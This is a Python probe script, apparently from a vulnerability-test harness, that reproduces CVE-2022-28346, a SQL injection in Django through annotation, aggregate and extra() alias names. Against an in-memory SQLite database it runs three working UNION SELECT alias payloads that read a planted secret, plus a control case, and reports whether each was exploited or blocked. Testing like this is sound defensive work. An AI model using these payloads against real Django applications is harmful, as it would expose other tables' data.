# /// vertice-probe
# id = "PYSEC-2022-190"
# aliases = ["CVE-2022-28346", "GHSA-2gwj-7jmv-h26r"]
# package = "django"
# summary = """\
#   Names of annotations and aggregates stand in the SQL unchecked, so a dictionary from the request that is \
#   unpacked into annotate() injects SQL."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H" }]
# cwe = ["CWE-89"]
# kind = "sqli"
# symbols = [
#   "django.db.models.QuerySet.annotate",
#   "django.db.models.QuerySet.aggregate",
#   "django.db.models.QuerySet.extra",
#   "django.db.models.query.QuerySet",
# ]
#
# [[affected]]
# package = "django"
# ranges = [{ type = "ECOSYSTEM", events = [
#   { introduced = "4.0" },
#   { fixed = "4.0.4" },
#   { introduced = "3.2" },
#   { fixed = "3.2.13" },
#   { introduced = "2.2" },
#   { fixed = "2.2.28" },
# ] }]
#
# [cases]
# attack = "an annotation's name adds a UNION that returns a secret"
# [cases.variants]
# extra = "the same through extra(select=…)"
# aggregate = "the same through aggregate()"
# [cases.controls]
# aliases = "ordinary names work in all three"
#
# [test]
# vulnerable = "4.0.3"
# fixed = "4.0.4"
# python = "<3.13"
# ///
"""CVE-2022-28346: SQL injection through column aliases."""

import json
import sys


def prepare():
    """A model in a database in memory, and a table with a secret beside it."""
    import django
    from django.conf import settings

    settings.configure(
        DATABASES={"default": {"ENGINE": "django.db.backends.sqlite3", "NAME": ":memory:"}},
        DEFAULT_AUTO_FIELD="django.db.models.AutoField",
        USE_TZ=False,
    )
    django.setup()
    from django.db import connection, models

    class Item(models.Model):
        name = models.CharField(max_length=9)

        class Meta:
            app_label = "probe"
            db_table = "probe_item"

    with connection.schema_editor() as editor:
        editor.create_model(Item)
    with connection.cursor() as cursor:
        cursor.execute("create table probe_secret (code text)")
        cursor.execute("insert into probe_secret values ('sesame')")
    Item.objects.create(name="a")
    return Item


def judge(run):
    """`run` gives what the query returned."""
    try:
        rows = run()
    except ValueError as error:
        if "alias" in str(error):
            return "blocked", "ValueError: %s" % str(error)[:60]
        raise
    if "sesame" in repr(rows):
        return "exploited", "the query returned the secret of another table"
    raise RuntimeError("neither injected nor refused: %r" % rows)


def attack():
    item = prepare()
    from django.db.models import F

    alias = 'x" from probe_item union select 1, code from probe_secret --'
    return judge(lambda: list(item.objects.annotate(**{alias: F("id")}).values_list("id", alias)))


def extra():
    item = prepare()
    alias = 'x", 1 from probe_item union select code, 1 from probe_secret --'
    return judge(lambda: list(item.objects.extra(select={alias: "1"}).values_list("id", alias)))


def aggregate():
    item = prepare()
    from django.db.models import Max

    alias = 'x" from probe_item union select code from probe_secret order by 1 desc --'
    return judge(lambda: list(item.objects.aggregate(**{alias: Max("id")}).values()))


def aliases():
    item = prepare()
    from django.db.models import Count, F

    got = [
        list(item.objects.annotate(label=F("name")).values_list("label", flat=True)),
        item.objects.aggregate(total_items=Count("id")),
        item.objects.extra(select={"two": "1 + 1"}).get().two,
    ]
    return ("works" if got == [["a"], {"total_items": 1}, 2] else "broken"), repr(got)


CASES = {"attack": attack, "extra": extra, "aggregate": aggregate, "aliases": aliases}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
